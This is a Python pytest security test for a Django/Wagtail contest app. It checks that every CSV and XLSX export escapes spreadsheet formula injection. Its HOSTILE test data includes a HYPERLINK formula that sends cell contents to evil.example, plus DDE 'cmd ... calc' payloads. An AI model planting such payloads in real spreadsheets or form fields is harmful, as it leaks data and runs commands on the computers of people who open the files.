"""Finding 3: formula injection. Every CSV and XLSX download, found by walking the URL configuration and the
Wagtail admin viewsets, is fed entrant- and judge-typed text starting with =, +, -, @, tab and CR; no cell may
reach a spreadsheet as a formula."""

import csv
import inspect
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from contest.enums import Role
from contest.spreadsheets import FORMULA_START
from judging.enums import RoundState
from judging.models import Assignment, ScoreSheet
from judging.selectors import sheet_version
from judging.services.rounds import transition_round
from judging.services.sheets import save_sheet
from submissions.models import Entry
from tests.factories import (
    CoordinatorFactory,
    EntrantFactory,
    JudgeFactory,
    OrganiserFactory,
    SchoolFactory,
)
from tests.factories.judging import JudgeableEntryFactory, PanelFactory, RoundFactory
from tests.factories.quiz import make_question
from tests.security.walk import our_snippet_viewsets, our_url_views

pytestmark = pytest.mark.django_db

HOSTILE = {
    "=": '=HYPERLINK("https://evil.example/?d="&A1,"Xem điểm")',
    "+": "+84 912 345 678",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1 Nguyễn Thị Hoa",
    "\r": "\r=1+1 Trường Lê Lợi",
}

# Every view that builds a spreadsheet, by URL name; the walk below fails when a new one is not listed here.
SPREADSHEET_VIEWS = {
    "judging:export",
    "consent:coordinator_export",
    "screening_queue",
    "participation",
    "reports_export",
    "quiz_export",
}
# Views the walk flags that are not spreadsheets (so nothing to neutralise), with the reason.
NOT_SPREADSHEETS = {
    "privacy:my_data_download": "a JSON copy of the pupil's own data",
    "privacy:guardian_data": "a JSON copy of the child's data for the guardian",
    "judging:ranking": "the ranking page, which links to judging:export",
}


def _our_exporting_views() -> set[str]:
    found = set()
    for name, view in our_url_views():
        source = inspect.getsource(view)
        if any(word in source for word in ("spreadsheet_response", "export", "text/csv", "xlsx")):
            found.add(name)
    return found


def test_every_export_view_is_covered():
    found = _our_exporting_views()
    assert found - SPREADSHEET_VIEWS - set(NOT_SPREADSHEETS) == set()
    assert found >= SPREADSHEET_VIEWS


@pytest.fixture
def hostile(db):
    """A round with scored sheets, and everything a pupil, a judge or an organiser types starting with a
    formula character."""
    values = list(HOSTILE.values())
    school = SchoolFactory(name=HOSTILE["@"], ward=HOSTILE["-"])
    judges = [JudgeFactory() for _ in range(3)]
    panel = PanelFactory(judges=judges, name=HOSTILE["="])
    panel.contest.title = HOSTILE["+"]
    panel.contest.save()
    round_ = RoundFactory(panel=panel, judges_per_entry=2, name=HOSTILE["@"])
    round_.rubric.name = HOSTILE["-"]
    round_.rubric.save()
    division = panel.contest.divisions.first()
    entries = []
    for index, value in enumerate(values[:4]):
        lead = EntrantFactory(school=school, full_name=value, class_name=values[-1 - index])
        entries.append(
            JudgeableEntryFactory(contest=panel.contest, division=division, lead_entrant=lead, title=value)
        )
    EntrantFactory(school=None, school_other=HOSTILE["\t"], full_name=HOSTILE["\r"])
    organiser = OrganiserFactory(is_superuser=True)
    transition_round(round_=round_, to_state=RoundState.OPEN, actor=organiser)
    criteria = list(round_.rubric.criteria.order_by("sort_order"))
    for n, a in enumerate(Assignment.objects.filter(round=round_, active=True).select_related("judge")):
        save_sheet(
            assignment=a,
            actor=a.judge,
            scores={c.pk: "8" for c in criteria},
            comment_organisers=values[n % 4],
            comment_entrant=values[(n + 1) % 4],
            base_version=sheet_version(assignment=a),
            submit=True,
        )
    first = ScoreSheet.objects.filter(assignment__round=round_).first()
    ScoreSheet.objects.filter(pk=first.pk).update(
        comment_organisers=HOSTILE["\t"], comment_entrant=HOSTILE["\r"]
    )
    Entry.objects.filter(pk=entries[0].pk).update(title=HOSTILE["\r"])
    coordinator = CoordinatorFactory(school=school)
    make_question(
        text=HOSTILE["="],
        choices=[(HOSTILE["+"], True), (HOSTILE["@"], False)],
        explanation=HOSTILE["-"],
        tags=(HOSTILE["\t"].strip(),),
    )
    return {"round": round_, "organiser": organiser, "coordinator": coordinator}


def _cells(response, fmt) -> list:
    assert response.status_code == 200, response
    if fmt == "csv":
        text = b"".join(response.streaming_content if response.streaming else [response.content]).decode()
        return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
    content = b"".join(response.streaming_content) if response.streaming else response.content
    workbook = load_workbook(io.BytesIO(content))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula in {cell.coordinate}: {cell.value!r}"
                cells.append(cell.value)
    return cells


def _assert_safe(cells, *, must_neutralise: bool):
    texts = [c for c in cells if isinstance(c, str)]
    unsafe = [c for c in texts if c.startswith(FORMULA_START)]
    assert unsafe == []
    if must_neutralise:
        assert any(c.startswith("'") and c[1:] in HOSTILE.values() for c in texts)


def _export_urls(data) -> list[tuple[str, str, object]]:
    round_ = data["round"]
    urls = []
    for fmt in ("csv", "xlsx"):
        for kind in ("diem", "xep-hang"):
            urls.append((reverse("judging:export", args=[round_.pk, kind, fmt]), fmt, data["organiser"]))
        for kind in ("hoc-sinh", "bai-du-thi"):
            urls.append((reverse("consent:coordinator_export", args=[kind, fmt]), fmt, data["coordinator"]))
        urls.append((reverse("screening_queue") + f"?export={fmt}", fmt, data["organiser"]))
        urls.append((reverse("participation") + f"?export={fmt}", fmt, data["organiser"]))
    # The campaign report's workbook (its DOCX and PDF are no spreadsheets).
    urls.append((reverse("reports_export", kwargs={"fmt": "xlsx"}), "xlsx", data["organiser"]))
    # The quiz's question bank (XLSX only).
    urls.append((reverse("quiz_export"), "xlsx", data["organiser"]))
    return urls


def test_our_exports_neutralise_formulas(client, hostile):
    for url, fmt, user in _export_urls(hostile):
        client.force_login(user)
        _assert_safe(_cells(client.get(url), fmt), must_neutralise=True)


@pytest.mark.parametrize(
    "viewset", [v for v in our_snippet_viewsets() if v.list_export], ids=lambda v: v.model.__name__
)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_admin_list_export_neutralises_formulas(client, hostile, viewset, fmt):
    client.force_login(hostile["organiser"])
    response = client.get(reverse(viewset.get_url_name("list")) + f"?export={fmt}")
    neutralised = viewset.model.__name__ in {"School", "Contest", "Rubric", "Panel", "Round", "ScoreSheet"}
    _assert_safe(_cells(response, fmt), must_neutralise=neutralised)


def test_roles_used_above_are_what_they_claim(hostile):
    assert hostile["organiser"].role == Role.ORGANISER
    assert hostile["coordinator"].role == Role.COORDINATOR
